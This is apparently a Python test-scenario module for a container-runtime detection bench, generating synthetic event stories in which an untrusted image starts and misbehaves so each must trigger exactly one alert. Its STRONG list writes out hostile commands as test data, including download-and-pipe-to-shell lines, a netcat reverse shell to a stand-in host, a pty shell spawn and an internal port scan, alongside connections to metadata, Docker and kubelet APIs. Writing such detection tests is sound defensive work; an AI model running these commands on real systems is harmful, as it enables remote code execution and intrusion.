"""Tells the chains that must alert: an image nobody vouched for is pulled, created, started, and misbehaves in time."""

from collections.abc import Callable

from bench.clock import MINUTE, SECOND
from bench.life import began, born, connected, executed
from bench.programs import Profile, Program
from bench.shapes import docker, hubble
from bench.tale import Tale
from bench.world import Container, Kind

ENTRY = Program("/usr/local/bin/entry", ("--serve", "--port", "9000"), "/srv", 1000)
UNTRUSTED = Profile("untrusted", 1, ENTRY, (Program("/usr/local/bin/entry", ("tick", "--slot", "%d"), "/srv", 1000),))
IMAGES = (
    "alpineos/alpine:latest", "ubuntu:22.04", "docker.io/xmr-tools/exporter:1.0", "quay.io/anon-dev/backup:2.3",
    "ghcr.io/nobody-in-particular/helper:v3", "198.51.100.77:5000/tools/agent:1", "busybox:1.36", "nginx:1.27",
    "registry.corp.example.lookalike.example/billing/cart-api:4.2.0", "docker.io/registry.corp.example/cart:4.2.0",
)  # fmt: skip
STRONG = (
    Program("/usr/bin/curl", ("-fsSL", "http://198.51.100.23/x.sh", "-o", "/srv/.x")),
    Program("/bin/sh", ("-c", "wget -qO- http://203.0.113.9/i.sh | sh")),
    Program("/usr/bin/wget", ("-q", "http://203.0.113.9/payload", "-O", "/srv/.k")),
    Program("/usr/bin/masscan", ("10.0.0.0/8", "-p2375,10250", "--rate", "20000")),
    Program("/usr/bin/base64", ("-d", "/srv/blob")),
    Program("/usr/bin/python3.11", ("-c", "import pty; pty.spawn('/bin/bash')")),
    Program("/bin/nc", ("198.51.100.40", "4444", "-e", "/bin/bash")),
    Program("/usr/bin/apt-get", ("install", "-y", "cron", "socat")),
)
OUTSIDE = (("198.51.100.23", 443), ("203.0.113.66", 3333), ("203.0.113.190", 8443), ("192.0.2.200", 80))


def arm(
    tale: Tale, kind: Kind, *, sensor: str = "", pulled_ns: int | None = None, wait_ns: int = 10 * SECOND
) -> Container:
    """A container of an untrusted image is born, and its harmless first process seen by `sensor`."""
    needs = {"tetragon": True, "laurel": False}.get(sensor) if kind == "docker" else None
    node = tale.node(kind, has_tetragon=needs)
    image = tale.image(IMAGES[int(tale.rng.random() * len(IMAGES))], UNTRUSTED)
    container = tale.run(node, image, created_ns=tale.begin_ns + wait_ns, namespace="sandbox", kind="Pod")
    born(tale, container, pulled_ns=pulled_ns)
    if sensor and sensor != "hubble":
        began(tale, container, sensor)
    return container


def _after(tale: Tale, container: Container, low_s: float = 5, high_s: float = 700) -> int:
    return container.started_ns + int((low_s + tale.rng.random() * (high_s - low_s)) * SECOND)


def _strong(tale: Tale) -> Program:
    return STRONG[int(tale.rng.random() * len(STRONG))]


def _execution(kind: Kind, sensor: str) -> Callable[[Tale], None]:
    def told(tale: Tale) -> None:
        container = arm(tale, kind, sensor=sensor)
        for _ in range(3):
            executed(tale, container, sensor, UNTRUSTED.everyday[0], _after(tale, container))
        executed(tale, container, sensor, _strong(tale), _after(tale, container), stage="behaviour")

    return told


def _connection(kind: Kind, sensor: str, address: str = "", port: int = 0) -> Callable[[Tale], None]:
    def told(tale: Tale) -> None:
        container = arm(tale, kind, sensor=sensor)
        target = (address, port) if address else OUTSIDE[int(tale.rng.random() * len(OUTSIDE))]
        connected(tale, container, sensor, _after(tale, container), *target, stage="behaviour")

    return told


def _flow(*, dropped: bool) -> Callable[[Tale], None]:
    def told(tale: Tale) -> None:
        container = arm(tale, "kubernetes", sensor="hubble")
        # The pod's address and the container's id reach the log up to 20 s after the start: the flow waits for them.
        at, target = _after(tale, container), OUTSIDE[int(tale.rng.random() * len(OUTSIDE))]
        record = hubble.egress(container, at, 777, *target, dropped=dropped)
        tale.tell("hubble", container.node, at, record, "behaviour")

    return told


def _before_its_create(tale: Tale) -> None:
    """The execution is seen at once; Docker's events of pull, create and start arrive 25 s late."""
    node = tale.node("docker", has_tetragon=True)
    image = tale.image(IMAGES[0], UNTRUSTED)
    container = tale.run(node, image, created_ns=tale.begin_ns + 10 * SECOND)
    created, started, late = container.created_ns, container.started_ns, 25 * SECOND
    tale.tell("docker", node, created - SECOND, docker.pull(image, created - SECOND), "pull", delay_ns=late)
    tale.tell("docker", node, created, docker.event(container, "create", created), "create", delay_ns=late)
    tale.tell("docker", node, started, docker.event(container, "start", started), "start", delay_ns=late)
    began(tale, container, "tetragon")
    executed(tale, container, "tetragon", _strong(tale), started + 2 * SECOND, stage="behaviour")


def _pull_told_late(tale: Tale) -> None:
    """The pull's own record arrives 40 s after it happened, when all else is already known."""
    node = tale.node("docker", has_tetragon=True)
    image = tale.image(IMAGES[1], UNTRUSTED)
    container = tale.run(node, image, created_ns=tale.begin_ns + 10 * SECOND)
    created, started = container.created_ns, container.started_ns
    tale.tell("docker", node, created - SECOND, docker.pull(image, created - SECOND), "pull", delay_ns=40 * SECOND)
    tale.tell("docker", node, created, docker.event(container, "create", created), "create")
    tale.tell("docker", node, started, docker.event(container, "start", started), "start")
    began(tale, container, "tetragon")
    executed(tale, container, "tetragon", _strong(tale), started + 4 * SECOND, stage="behaviour")


def _just_inside(tale: Tale) -> None:
    """The strong behaviour comes half a second before the window closes."""
    container = arm(tale, "docker", sensor="tetragon")
    at = container.started_ns + 15 * MINUTE - SECOND // 2
    executed(tale, container, "tetragon", _strong(tale), at, stage="behaviour")


def _pulled_long_ago(tale: Tale) -> None:
    """The image was pulled 17 minutes before anybody used it."""
    wait_ns = 17 * MINUTE
    container = arm(tale, "containerd", sensor="tetragon", pulled_ns=tale.begin_ns, wait_ns=wait_ns)
    executed(tale, container, "tetragon", _strong(tale), _after(tale, container, 5, 60), stage="behaviour")


def _restarted(tale: Tale) -> None:
    """Sixteen quiet minutes, a restart, and then misbehaviour: the window counts from the latest start."""
    container = arm(tale, "docker", sensor="tetragon")
    again = container.started_ns + 16 * MINUTE
    died = docker.event(container, "die", again - SECOND, b'"exitCode":"1",')
    tale.tell("docker", container.node, again - SECOND, died)
    tale.tell("docker", container.node, again, docker.event(container, "start", again), "start")
    executed(tale, container, "tetragon", _strong(tale), again + 30 * SECOND, stage="behaviour")


def _delivered_twice(tale: Tale) -> None:
    """Every record is delivered a second time, some seconds later."""
    _execution("kubernetes", "tetragon")(tale)
    for told in list(tale.told):
        tale.told.append(
            type(told)(told.arrival_ns + int(tale.rng.random() * 9 * SECOND), told.producer, told.record, told.stage)
        )


def _burst(tale: Tale) -> None:
    """One alert, however many behaviours: eighty within a minute."""
    container = arm(tale, "docker", sensor="tetragon")
    begin = _after(tale, container, 20, 60)
    for number in range(80):
        executed(tale, container, "tetragon", STRONG[number % 8], begin + number * SECOND * 3 // 4, stage="behaviour")


ALERTS: dict[str, Callable[[Tale], None]] = {
    "docker-tetragon-exec": _execution("docker", "tetragon"),
    "docker-falco-exec": _execution("docker", "falco"),
    "docker-laurel-exec": _execution("docker", "laurel"),
    "kubernetes-tetragon-exec": _execution("kubernetes", "tetragon"),
    "kubernetes-falco-exec": _execution("kubernetes", "falco"),
    "containerd-tetragon-exec": _execution("containerd", "tetragon"),
    "containerd-falco-exec": _execution("containerd", "falco"),
    "docker-tetragon-connect": _connection("docker", "tetragon"),
    "docker-falco-connect": _connection("docker", "falco"),
    "docker-laurel-connect": _connection("docker", "laurel"),
    "kubernetes-tetragon-connect": _connection("kubernetes", "tetragon"),
    "containerd-tetragon-connect": _connection("containerd", "tetragon"),
    "metadata-service": _connection("kubernetes", "tetragon", "169.254.169.254", 80),
    "docker-api": _connection("docker", "laurel", "10.20.30.40", 2375),
    "kubelet-api": _connection("kubernetes", "tetragon", "10.10.0.9", 10250),
    "hubble-egress": _flow(dropped=False),
    "hubble-egress-dropped": _flow(dropped=True),
    "exec-before-create-arrives": _before_its_create,
    "pull-arrives-late": _pull_told_late,
    "just-inside-window": _just_inside,
    "pulled-long-ago": _pulled_long_ago,
    "restarted": _restarted,
    "delivered-twice": _delivered_twice,
    "burst": _burst,
}
"""Stories whose container must be in exactly one alert."""
